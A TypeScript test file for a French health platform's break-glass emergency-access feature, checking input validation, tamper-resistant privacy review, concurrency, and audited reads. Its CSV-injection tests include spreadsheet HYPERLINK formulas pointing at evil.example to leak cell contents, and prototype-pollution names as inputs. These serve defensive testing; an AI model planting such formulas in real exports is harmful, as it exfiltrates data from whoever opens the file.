/**
 * Issue 16, the break-glass attacks, each on a platform of its own: a physician cannot blind the
 * privacy officer's review (inherited names as reasons, wrong types, a malformed stored row), the
 * CSV cannot carry a formula, parallel starts open one session, reviews are a history, audit
 * readers can read the log, consent reads are audited and limited.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { givenPatient, givenRecord } from '../../test/support/builders.ts';
import { callAs, outcomeText } from '../../test/support/http.ts';
import { testPlatform, type TestPlatform } from '../../test/support/platform.ts';
import type { MintOptions } from '../../test/support/tokens.ts';
import { configFromEnv } from '../config.ts';
import { csvCell } from '../csv.ts';
import {
  DEMO_PRIVACY_OFFICER,
  DEMO_SECRETARIAT,
  DEV_PROFESSIONALS,
  findDevProfessional,
  pscClaimsOf,
} from '../identity/dev-professionals.ts';

const staff = (accountId: string): MintOptions => ({ claims: pscClaimsOf(findDevProfessional(accountId)!) });
const officer = staff('f:passerelle-dev:privacy-officer');
const secretariat = staff('f:passerelle-dev:secretariat');
const nurse: MintOptions = { as: 'nurse' };
const PHYSICIAN_IDNPS = `8${DEV_PROFESSIONALS[0]!.rpps}`;

const open: TestPlatform[] = [];
afterEach(async () => {
  await Promise.all(open.splice(0).map((p) => p.close()));
});

/** A platform of this test's own, the demo privacy officer as its audit reader, a settable clock. */
async function platform() {
  const clock = { now: new Date('2026-11-24T09:00:00Z') };
  const defaults = configFromEnv({});
  const p = await testPlatform(
    { audit: { ...defaults.audit, readers: [DEMO_PRIVACY_OFFICER] } },
    { now: () => clock.now, demo: true, seed: givenPatients },
  );
  open.push(p);
  const call = (method: 'GET' | 'POST', url: string, as: MintOptions = {}, body?: unknown) =>
    callAs(p, method, url, as, body);
  const parameters = (list: { name: string; [value: string]: unknown }[]) => ({
    resourceType: 'Parameters',
    parameter: list,
  });
  const start = (patient: string, list = goodStart()) =>
    call('POST', `/fhir/Patient/${patient}/$break-glass`, {}, parameters(list));
  const count = async (table: 'break_glass' | 'audit_event', where?: { kind: string }) => {
    let q = p.db.selectFrom(table).select((eb) => eb.fn.countAll<number>().as('n'));
    if (where && table === 'audit_event') q = q.where('kind', '=', where.kind);
    return Number((await q.executeTakeFirstOrThrow()).n);
  };
  return { p, clock, call, parameters, start, count };
}

/** Three patients with a record; CASANOVA's row is the one a malformed session will name. */
async function givenPatients(db: TestPlatform['db']): Promise<void> {
  for (const [id, birthName] of [
    ['lefevre', 'LEFÈVRE'],
    ['girard', 'GIRARD'],
    ['casanova', 'CASANOVA'],
  ] as const) {
    await givenPatient(db, { id, birthName });
    await givenRecord(db, id, {
      documents: [{ id: `${id}-doc-1`, type: 'summary', title: 'Volet de synthèse médicale' }],
    });
  }
}

const goodStart = (overrides: Record<string, unknown> = {}) =>
  Object.entries({
    mode: { valueCode: 'bris_de_glace' },
    reason: { valueCode: 'urgence-vitale' },
    text: { valueString: 'Patient inconscient, traitement anticoagulant à vérifier' },
    ...overrides,
  }).map(([name, value]) => ({ name, ...(value as object) }));

describe('break-glass input is parsed against closed sets', () => {
  for (const reason of ['toString', '__proto__', 'constructor', 'valueOf', 'hasOwnProperty']) {
    it(`refuses the inherited name "${reason}" as a reason: 400, no session, no entry`, async () => {
      const { start, count } = await platform();
      const res = await start('lefevre', goodStart({ reason: { valueCode: reason } }));
      expect(res.statusCode).toBe(400);
      expect(outcomeText(res)).toBe('Choisissez le motif de l’accès en urgence.');
      expect(await count('break_glass')).toBe(0);
      expect(await count('audit_event', { kind: 'break-glass-start' })).toBe(0);
    });
  }

  const malformed: [string, unknown][] = [
    ['a reason given as an array', goodStart({ reason: { valueCode: ['urgence-vitale'] } })],
    ['a description given as a number', goodStart({ text: { valueString: 1234567890123 } })],
    ['a mode outside TRE_R248', goodStart({ mode: { valueCode: 'normal' } })],
    ['a reason given twice', [...goodStart(), { name: 'reason', valueCode: 'autre-urgence' }]],
    ['an unknown parameter', [...goodStart(), { name: 'expires', valueInstant: '2099-01-01T00:00:00Z' }]],
    ['a parameter named __proto__', [...goodStart(), { name: '__proto__', valueString: 'x' }]],
    ['a parameter with two values', goodStart({ reason: { valueCode: 'urgence-vitale', valueString: 'x' } })],
    ['a description too short', goodStart({ text: { valueString: 'court' } })],
  ];
  for (const [what, list] of malformed) {
    it(`answers 400 in French to ${what}, and opens nothing`, async () => {
      const { call, parameters, count } = await platform();
      const res = await call('POST', '/fhir/Patient/lefevre/$break-glass', {}, parameters(list as never));
      expect(res.statusCode).toBe(400);
      expect(res.json()).toMatchObject({ resourceType: 'OperationOutcome' });
      expect(outcomeText(res)).toMatch(/[éèàç’]|Paramètre|Choisissez|Décrivez|Mode/);
      expect(await count('break_glass')).toBe(0);
    });
  }

  it('answers 400 to a body that is not a FHIR Parameters (array, string, null)', async () => {
    const { call, count } = await platform();
    for (const body of [
      [],
      'urgence-vitale',
      { resourceType: 'Bundle' },
      { resourceType: 'Parameters', parameter: 'x' },
    ]) {
      const res = await call('POST', '/fhir/Patient/lefevre/$break-glass', {}, body);
      expect(res.statusCode).toBe(400);
    }
    expect(await count('break_glass')).toBe(0);
  });
});

describe('the review cannot be blinded', () => {
  it('lists every session and exports them all when one stored row is malformed, flagging it', async () => {
    const { p, start, call } = await platform();
    expect((await start('lefevre')).statusCode).toBe(201);
    expect((await start('girard')).statusCode).toBe(201);
    // What an older version, or a hand edit of the database, could have left.
    await p.db
      .insertInto('break_glass')
      .values({
        id: 'bad-row',
        patient_id: 'casanova',
        idnps: PHYSICIAN_IDNPS,
        actor_name: 'Dr Julien MOREAU',
        mode: 'valueOf',
        reason_code: 'toString',
        reason_text: 'x',
        started_at: 'not a date',
        expires_at: 'never',
        ended_at: null,
      })
      .execute();
    const list = await call('GET', '/review/break-glass', officer);
    expect(list.statusCode).toBe(200);
    const sessions = list.json() as { id: string; problems: string[]; reason: { label: string } }[];
    expect(sessions).toHaveLength(3);
    const bad = sessions.find((s) => s.id === 'bad-row')!;
    expect(bad.problems.join(' ')).toMatch(/Motif non reconnu.*toString/);
    expect(bad.problems.join(' ')).toMatch(/Mode d’accès non reconnu/);
    expect(bad.problems.join(' ')).toMatch(/Dates de la session illisibles/);
    expect(bad.reason.label).toBe('Motif non reconnu');
    expect(sessions.filter((s) => s.problems.length === 0)).toHaveLength(2);
    const csv = await call('GET', '/review/break-glass.csv', officer);
    expect(csv.statusCode).toBe(200);
    expect(
      csv.body
        .replace(/^\uFEFF/, '')
        .trim()
        .split('\r\n'),
    ).toHaveLength(4);
  });
});

describe('CSV safe for spreadsheets (OWASP CSV injection)', () => {
  for (const start of ['=', '+', '-', '@', '\t', '\r']) {
    it(`neutralises a cell starting with ${JSON.stringify(start)}`, () => {
      const cell = csvCell(`${start}HYPERLINK("http://evil.example/?x="&A1)`);
      expect(cell.startsWith(`"'${start}`)).toBe(true);
    });
  }

  it('leaves ordinary text as it is, quotes doubled', () => {
    expect(csvCell('Patient "inconscient"')).toBe('"Patient ""inconscient"""');
  });

  it('exports a physician’s formula-like description as text', async () => {
    const { start, call } = await platform();
    const text = '=HYPERLINK("http://evil.example/"&A1;"Cliquez ici pour valider")';
    expect((await start('lefevre', goodStart({ text: { valueString: text } }))).statusCode).toBe(201);
    const csv = (await call('GET', '/review/break-glass.csv', officer)).body;
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/""&A1;""Cliquez ici pour valider"")"`);
    expect(csv).not.toMatch(/(^|;)"=/m);
  });
});

describe('one open break-glass session per professional and patient', () => {
  it('gives six parallel starts one session and one start entry; ending it closes the record', async () => {
    const { start, count, call } = await platform();
    const answers = await Promise.all(Array.from({ length: 6 }, () => start('lefevre')));
    expect(answers.map((a) => a.statusCode)).toEqual(Array(6).fill(201));
    const ids = new Set(
      answers.map((a) => (a.json() as { parameter: { valueString?: string }[] }).parameter[0]!.valueString),
    );
    expect(ids.size).toBe(1);
    expect(await count('break_glass')).toBe(1);
    expect(await count('audit_event', { kind: 'break-glass-start' })).toBe(1);
    expect((await call('GET', '/fhir/Patient/lefevre/$summary')).statusCode).toBe(200);
    const ended = await call('POST', '/fhir/Patient/lefevre/$break-glass-end', {}, {});
    expect(ended.json()).toMatchObject({ parameter: [{ name: 'ended', valueBoolean: true }] });
    expect((await call('GET', '/fhir/Patient/lefevre/$summary')).statusCode).toBe(403);
    expect(await count('audit_event', { kind: 'break-glass-end' })).toBe(1);
  });

  it('ends an expired, unswept session (with its entry) before opening a new one', async () => {
    const { start, count, clock } = await platform();
    expect((await start('lefevre')).statusCode).toBe(201);
    clock.now = new Date(clock.now.getTime() + 16 * 60_000);
    expect((await start('lefevre')).statusCode).toBe(201);
    expect(await count('break_glass')).toBe(2);
    expect(await count('audit_event', { kind: 'break-glass-end' })).toBe(1);
  });
});

describe('review history', () => {
  it('keeps every review, each its own audited entry holding its text', async () => {
    const { p, start, call } = await platform();
    await start('lefevre');
    const [session] = (await call('GET', '/review/break-glass', officer)).json() as { id: string }[];
    for (const comment of ['Premier avis : à vérifier.', 'Justifié après échange avec le service.']) {
      expect((await call('POST', `/review/break-glass/${session!.id}`, officer, { comment })).statusCode).toBe(200);
    }
    const [reviewed] = (await call('GET', '/review/break-glass?reviewed=true', officer)).json() as {
      reviews: { comment: string; by: string }[];
    }[];
    expect(reviewed!.reviews.map((r) => r.comment)).toEqual([
      'Premier avis : à vérifier.',
      'Justifié après échange avec le service.',
    ]);
    expect(reviewed!.reviews[0]!.by).toBe('Sophie DUMAS');
    const entries = await p.db
      .selectFrom('audit_event')
      .select('resource')
      .where('kind', '=', 'break-glass-review')
      .execute();
    expect(entries).toHaveLength(2);
    expect(entries[1]!.resource).toContain('Justifié après échange avec le service.');
    expect((await call('GET', '/review/break-glass?reviewed=false', officer)).json()).toEqual([]);
  });

  it('refuses a malformed review request with a 400, not a 500', async () => {
    const { call, start } = await platform();
    await start('lefevre');
    const [session] = (await call('GET', '/review/break-glass', officer)).json() as { id: string }[];
    for (const body of [{ comment: ['x'] }, { comment: 42 }, { comment: '' }, {}]) {
      expect((await call('POST', `/review/break-glass/${session!.id}`, officer, body)).statusCode).toBe(400);
    }
    expect((await call('GET', '/review/break-glass?reviewed=maybe', officer)).statusCode).toBe(400);
  });
});

describe('audit readers without a health profession', () => {
  it('search the audit log and read any patient’s access history, each read audited', async () => {
    const { p, start, call } = await platform();
    await start('lefevre');
    const search = await call('GET', '/fhir/AuditEvent?patient=lefevre', officer);
    expect(search.statusCode).toBe(200);
    expect(JSON.stringify(search.json())).toContain('110127');
    const history = await call('GET', '/fhir/Patient/lefevre/$access-history', officer);
    expect(history.statusCode).toBe(200);
    const reads = await p.db
      .selectFrom('audit_event')
      .select('agent_idnps')
      .where('kind', '=', 'audit-search')
      .where('agent_idnps', '=', DEMO_PRIVACY_OFFICER)
      .execute();
    expect(reads).toHaveLength(2);
  });

  it('still refuses the access history to staff who are not audit readers', async () => {
    const { call } = await platform();
    const res = await call('GET', '/fhir/Patient/lefevre/$access-history', secretariat);
    expect(res.statusCode).toBe(403);
    const own = await call('GET', `/fhir/AuditEvent?agent=${DEMO_PRIVACY_OFFICER}`, secretariat);
    expect(own.statusCode).toBe(403);
    expect(DEMO_SECRETARIAT).not.toBe(DEMO_PRIVACY_OFFICER);
  });
});

describe('consent reads', () => {
  it('are audited and limited to the current circle, physicians and audit readers', async () => {
    const { p, call } = await platform();
    const consent = (as: MintOptions) => call('GET', '/fhir/Consent?patient=lefevre', as);
    expect((await consent(nurse)).statusCode).toBe(403);
    expect((await consent(secretariat)).statusCode).toBe(403);
    expect((await consent({})).statusCode).toBe(200);
    expect((await consent(officer)).statusCode).toBe(200);
    const nurseIn = async (operation: 'join' | 'leave') =>
      p.app.inject({
        method: 'POST',
        url: `/fhir/Patient/lefevre/$care-team-${operation}`,
        headers: { ...(await p.issuer.bearer(nurse)), 'idempotency-key': `consent-read-nurse-${operation}` },
      });
    expect((await nurseIn('join')).statusCode).toBe(201);
    expect((await consent(nurse)).statusCode).toBe(200);
    // A member who left is refused again; an unknown patient is unknown to everyone.
    expect((await nurseIn('leave')).statusCode).toBe(200);
    expect((await consent(nurse)).statusCode).toBe(403);
    expect((await call('GET', '/fhir/Consent?patient=nobody', {})).statusCode).toBe(404);
    const entries = await p.db
      .selectFrom('audit_event')
      .select('agent_idnps')
      .where('kind', '=', 'consent-read')
      .execute();
    expect(entries).toHaveLength(3);
  });
});
